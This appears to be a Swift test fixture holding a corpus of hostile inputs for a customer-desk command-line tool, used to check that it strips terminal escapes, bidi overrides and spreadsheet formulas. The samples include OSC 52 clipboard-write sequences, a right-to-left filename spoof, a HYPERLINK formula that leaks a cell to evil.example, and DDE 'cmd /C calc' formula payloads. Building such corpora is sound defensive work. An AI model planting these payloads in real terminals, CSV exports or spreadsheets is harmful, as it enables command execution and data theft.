import Foundation

/// Text a customer (or someone posing as one) can type that a terminal or a spreadsheet would
/// obey: escape sequences, C1 controls, bidi overrides, zero-width joins, a megabyte on one line,
/// a NUL, and cells a spreadsheet would run as formulas.
enum HostileCorpus {
    struct Sample {
        let name: String
        let text: String
        /// Whether `tend add` can take it as an argument (a NUL ends a C string; the kernel caps one
        /// argument at 128 KiB). The others come in through `tend import`.
        var fitsAnArgument = true
    }

    static let megabyteLine = String(repeating: "长文", count: 174_763) + "\u{1B}]52;c;bWVnYWJ5dGU=\u{07}end"

    static let samples: [Sample] = [
        Sample(name: "ESC [2J clear screen", text: "王\u{1B}[2J\u{1B}[H小明"),
        Sample(name: "OSC 52 clipboard (BEL)", text: "Tom\u{1B}]52;c;ZWNobyBwd25lZA==\u{07}"),
        Sample(name: "OSC 52 clipboard (ST)", text: "\u{1B}]52;c;aGk=\u{1B}\\Ann"),
        Sample(name: "OSC 0 title", text: "\u{1B}]0;pwned\u{07}Lily"),
        Sample(name: "BEL", text: "ding\u{07}dong"),
        Sample(name: "C1 CSI U+009B", text: "red\u{9B}31mtext\u{9B}2J"),
        Sample(name: "C1 OSC U+009D", text: "\u{9D}52;c;aGk=\u{9C}clip"),
        Sample(name: "RLO U+202E", text: "invoice\u{202E}fdp.exe"),
        Sample(name: "bidi isolates and marks", text: "\u{2067}abc\u{2069}x\u{200F}y\u{061C}z\u{200E}"),
        Sample(name: "zero-width space and joiner", text: "Zero\u{200B}Width\u{200D}Join"),
        Sample(name: "ZWJ emoji families", text: "👨‍👩‍👧‍👦 and 👩🏽‍⚕️"),
        Sample(name: "lone combining mark", text: "\u{0301}"),
        Sample(name: "NUL", text: "nul\u{0}byte", fitsAnArgument: false),
        Sample(name: "1 MB line", text: megabyteLine, fitsAnArgument: false),
        Sample(name: "formula =", text: "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"),
        Sample(name: "formula +", text: "+1+cmd|' /C calc'!A0"),
        Sample(name: "formula -", text: "-2+3+cmd|' /C calc'!A0"),
        Sample(name: "formula @", text: "@SUM(1+1)*cmd|' /C calc'!A0"),
        Sample(name: "formula after TAB", text: "\t=1+1"),
        Sample(name: "formula after CR", text: "\r=1+1"),
    ]

    /// Scalars that must never reach a terminal or a CSV file raw: C0 controls other than the line
    /// feed, DEL, C1 controls, line and paragraph separators, and bidi controls.
    static func isForbidden(_ scalar: Unicode.Scalar) -> Bool {
        let value = scalar.value
        return (value < 0x20 && value != 0x0A) || value == 0x7F || (0x80...0x9F).contains(value)
            || value == 0x2028 || value == 0x2029 || (0x202A...0x202E).contains(value) || (0x2066...0x2069).contains(value)
            || value == 0x200E || value == 0x200F || value == 0x061C
    }

    static func forbiddenCount(_ text: String) -> Int { text.unicodeScalars.reduce(0) { $0 + (isForbidden($1) ? 1 : 0) } }

    static func forbiddenCount(bytes: [UInt8]) -> Int { forbiddenCount(String(decoding: bytes, as: UTF8.self)) }

    /// What a spreadsheet would run: a cell starting with = + - @, a tab or a line break (or the
    /// full-width forms), unless it is a plain number.
    static func isFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first else { return false }
        if cell.range(of: #"^-?[0-9]+(\.[0-9]+)?$"#, options: .regularExpression) != nil { return false }
        return "=+-@\t\r\n＝＋－＠".unicodeScalars.contains(first)
    }
}

extension HostileCorpus {
    /// One sample as the desk holds it: `tend import` trims the ends of every value.
    struct Taken {
        let sample: Sample
        let id: String
        let stored: String
    }

    /// The fields each sample is written into.
    static let textFields = ["customer", "pet", "description", "branch", "special_needs_note"]

    /// `--name=value`, so that a value starting with "-" is not read as an option; but separate
    /// when the value starts with a combining mark, which would join the "=" into one character.
    static func option(_ name: String, _ value: String) -> [String] {
        value.unicodeScalars.first.map { (0x300...0x36F).contains($0.value) } == true ? [name, value] : ["\(name)=\(value)"]
    }

    /// A demo desk (its roster, one demo ticket) with every sample taken in through `tend add`
    /// where it fits an argument, and every sample again through `tend import`.
    static func makeDesk(_ tend: TendRunner, at desk: String) throws -> [Taken] {
        func require(_ result: TendRunner.Result, _ what: String) throws {
            guard result.status == 0 else { throw TendRunner.Failure(text: "\(what): \(result.stderr)") }
        }
        try require(try tend.run(["demo", "--store", desk, "--tickets", "1", "--now", "2026-11-20T09:00:00Z"]), "demo")
        var taken: [Taken] = []
        for sample in samples where sample.fitsAnArgument {
            let text = sample.text
            let fields = ["--customer", "--pet", "--description", "--branch", "--special-needs-note"].flatMap { option($0, text) }
            let added = try tend.run(["add", "--store", desk, "--as", "li.hua", "--contact=13900001111", "--service=grooming",
                                      "--channel=phone"] + fields)
            try require(added, "add \(sample.name)")
            taken.append(Taken(sample: sample, id: added.stdout.trimmingCharacters(in: .whitespacesAndNewlines), stored: text))
        }
        let rows: [[String: String]] = samples.map { sample in
            var row = ["contact": "13900002222", "service": "boarding", "channel": "chat"]
            for field in textFields { row[field] = sample.text }
            return row
        }
        let file = tend.path("hostile-\(UUID().uuidString.prefix(6)).json")
        try JSONSerialization.data(withJSONObject: rows).write(to: URL(fileURLWithPath: file))
        let imported = try tend.run(["import", file, "--store", desk, "--as", "li.hua"])
        try require(imported, "import")
        guard let range = imported.stdout.range(of: #"T-\d+"#, options: .regularExpression),
              let first = Int(imported.stdout[range].dropFirst(2)) else { throw TendRunner.Failure(text: "import said \(imported.stdout)") }
        for (offset, sample) in samples.enumerated() {
            taken.append(Taken(sample: sample, id: "T-\(first + offset)", stored: sample.text.trimmingCharacters(in: .whitespacesAndNewlines)))
        }
        return taken
    }
}
